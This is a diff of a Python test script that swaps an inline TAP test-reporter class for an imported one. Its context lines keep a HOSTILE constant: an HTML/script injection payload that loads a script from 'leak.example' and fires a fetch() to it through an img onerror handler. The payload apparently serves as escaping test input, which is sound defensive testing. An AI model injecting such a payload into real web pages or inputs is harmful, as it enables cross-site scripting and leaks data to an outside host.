@@ -11,33 +11,13 @@ import sys
 import tempfile
 from pathlib import Path
 
+from tap import Tap
+
 SOURCE = Path(__file__).resolve().parents[2]
 SAMPLE = SOURCE / 'data' / 'samples' / 'rust-1.52-fingerprints.afterword'
 BROWSER = shutil.which('chromium') or shutil.which('chromium-browser') or shutil.which('google-chrome')
 HOST = 'leak.example'
 HOSTILE = f'</p></title></style><script src="https://{HOST}/s.js"></script><img src=x onerror="fetch(\'https://{HOST}/\')">'
-
-
-class Tap:
-    def __init__(self):
-        self.count = 0
-        self.failed = 0
-
-    def ok(self, good, what, found=None):
-        self.count += 1
-        print(f'{"ok" if good else "not ok"} {self.count} - {what}', flush=True)
-        if not good:
-            self.failed += 1
-            for line in str(found).splitlines()[:20]:
-                print(f'# {line}')
-
-    def skip(self, what, why):
-        self.count += 1
-        print(f'ok {self.count} - {what} # SKIP {why}')
-
-    def end(self):
-        print(f'1..{self.count}', flush=True)
-        return 1 if self.failed else 0
 
 
 class Elements(html.parser.HTMLParser):
